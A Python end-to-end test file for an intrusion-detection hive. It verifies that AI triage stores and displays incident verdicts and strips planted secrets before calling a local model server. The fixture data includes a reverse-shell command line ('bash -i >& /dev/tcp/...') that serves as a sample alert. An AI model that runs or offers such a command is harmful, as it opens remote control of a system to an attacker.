"""AI triage through a real ``immune-node hive`` and a real chat-completions
server on loopback (tests/hive/model_server.py): an incident written to the
running hive's store gets a verdict stored with it, ``immune-node triage
ID`` prints it, the console's incident page shows it and its button asks for
another; what the server received holds none of the secrets planted in the
incident's command lines.  A hive without ``[ai] url`` sends nothing."""

from __future__ import annotations

import re
import ssl
import subprocess
import time

import httpx
import pytest

import wire
from hive import Store
from hive.correlate import Incident
from tests.e2e.nodes import IMMUNE_NODE, RunningNode
from tests.hive.model_server import VERDICT, ModelServer
from tests.ports import tcp_endpoint

pytestmark = pytest.mark.slow
PASSWORD = "correct horse battery"
SECRETS = ("Pr0dDbPassw0rd", "ghp_0123456789abcdefghijklmnopqrstuv", "AKIAIOSFODNN7EXAMPLE")


def plant(data, incident_id: str) -> None:
    """An incident with its alerts, written to the running hive's store as
    its correlator writes them (one more writer on the WAL)."""
    now = time.time()
    alerts = [wire.Alert(
        id=f"{incident_id}-a{i}", rule_id="rev-shell", title="Reverse shell from a web worker", level="high",
        agent=agent, tags=["attack.t1059.004"], time=int(now * 1e9) + i, incident=incident_id,
        events=[wire.Exec(time=int(now * 1e9), pid=31000 + i, ppid=1, filename="/usr/bin/bash", user="www-data",
                          image="/usr/bin/bash",
                          cmdline=f"bash -c 'PGPASSWORD={SECRETS[0]} psql -h db1; git clone "
                                  f"https://x:{SECRETS[1]}@github.com/acme/tools; echo {SECRETS[2]}; "
                                  f"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'")])
        for i, agent in enumerate(("web1", "db1"))]
    incident = Incident(id=incident_id, title="Lateral movement web1 -> db1", opened=now, updated=now, level="high",
                        agents=["web1", "db1"], edges=[("web1", "db1", 22)], alerts=[a.id for a in alerts])
    store = Store(data / "hive.db")
    try:
        store.ingest([], alerts, [incident])
    finally:
        store.close()


def triages(data, incident_id: str) -> list:
    store = Store(data / "hive.db", readonly=True)
    try:
        return store.triage(incident_id)
    finally:
        store.close()


def wait_for(predicate, timeout: float = 60.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(0.2)
    raise AssertionError("timed out")


def cli(data, config, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([*IMMUNE_NODE, *args, "--data", str(data), "--config", str(config)],
                          capture_output=True, text=True, timeout=120)


@pytest.fixture
def model():
    with ModelServer("valid") as server:
        yield server


def start_hive(data, config) -> RunningNode:
    node = RunningNode("hive", data, "--listen", tcp_endpoint(), "--config", str(config))
    node.wait_ready(120)
    return node


def test_an_incident_gets_a_verdict_the_cli_and_the_console_show(tmp_path, model):
    data, config = tmp_path / "hive", tmp_path / "immune.toml"
    config.write_text(f'[ai]\nurl = "{model.url}"\nmodel = "qwen2.5-7b"\ntoken = "hive-secret-token"\n'
                      "delay = 0\ntimeout = 10\n")
    data.mkdir()
    added = subprocess.run([*IMMUNE_NODE, "users", "add", "rick", "--role", "responder", "--data", str(data)],
                           input=PASSWORD + "\n", capture_output=True, text=True, timeout=60)
    assert added.returncode == 0, added.stderr
    hive = start_hive(data, config)
    try:
        plant(data, "inc-e2e")
        [row] = wait_for(lambda: triages(data, "inc-e2e"))
        assert row.state == "done" and row.requested_by == "auto" and row.verdict == VERDICT
        [summary] = model.user_messages()
        for secret in SECRETS:
            assert secret not in summary
        assert "/dev/tcp/203.0.113.9/4444" in summary and "Lateral movement web1 -> db1" in summary
        assert model.headers[0]["Authorization"] == "Bearer hive-secret-token"
        ai = next(a for a in hive.status().actors if a.name.rpartition(".")[2] == "ai")
        assert ai.state == "running" and ai.extra["triaged"] == 1 and ai.extra["calls"] == 1
        assert re.search(r"ai\.verdict incident=inc-e2e triage=\d+ severity=high confidence=0.9 "
                         r"techniques=T1059.004,T1105 playbook=reverse-shell model=test-model-1 seconds=", hive.log())

        shown = cli(data, config, "triage", "inc-e2e")
        assert shown.returncode == 0, shown.stderr
        assert "incident inc-e2e: verdict high (confidence 0.90) from test-model-1" in shown.stdout
        assert "techniques: T1059.004, T1105" in shown.stdout and "recommended playbook: reverse-shell" in shown.stdout

        verify = ssl.create_default_context(cafile=data / "console.crt")
        with httpx.Client(base_url=f"https://127.0.0.1:{hive.console_port}", verify=verify) as c:
            page = c.get("/login")
            csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
            assert c.post("/login", data={"csrf": csrf, "name": "rick", "password": PASSWORD,
                                          "next": "/"}).status_code == 303
            page = c.get("/incidents/inc-e2e").text
            assert "confidence 0.90" in page and "T1059.004, T1105" in page and "reverse-shell" in page
            csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
            asked = c.post("/incidents/inc-e2e/triage", data={"csrf": csrf})
            assert asked.status_code == 303
            second = wait_for(lambda: [t for t in triages(data, "inc-e2e") if t.requested_by == "operator:rick"])
            assert second[0].state == "done" and len(model.requests) == 2

        # On demand from the CLI, with a model that now answers badly: refused, stored, exit 1.
        model.mode = "schema"
        again = cli(data, config, "triage", "inc-e2e", "--new", "--wait", "60")
        assert again.returncode == 1
        assert "triage failed (cli" in again.stdout and "the verdict does not follow the schema" in again.stdout
        assert triages(data, "inc-e2e")[0].verdict == {}
    finally:
        assert hive.stop() == 0


def test_without_an_ai_url_nothing_leaves_the_hive(tmp_path, model):
    data, config = tmp_path / "hive", tmp_path / "immune.toml"
    # A model and a token, but no url: off.
    config.write_text('[ai]\nmodel = "qwen2.5-7b"\ntoken = "hive-secret-token"\ndelay = 0\n')
    hive = start_hive(data, config)
    try:
        plant(data, "inc-quiet")
        assert "ai" not in {a.name.rpartition(".")[2] for a in hive.status().actors}
        refused = cli(data, config, "triage", "inc-quiet")
        assert refused.returncode == 1 and "AI triage is off" in refused.stderr
        time.sleep(3)  # three times the ai actor's look at the store, had it run
        assert triages(data, "inc-quiet") == []
    finally:
        assert hive.stop() == 0
    assert model.connections == 0 and model.requests == []
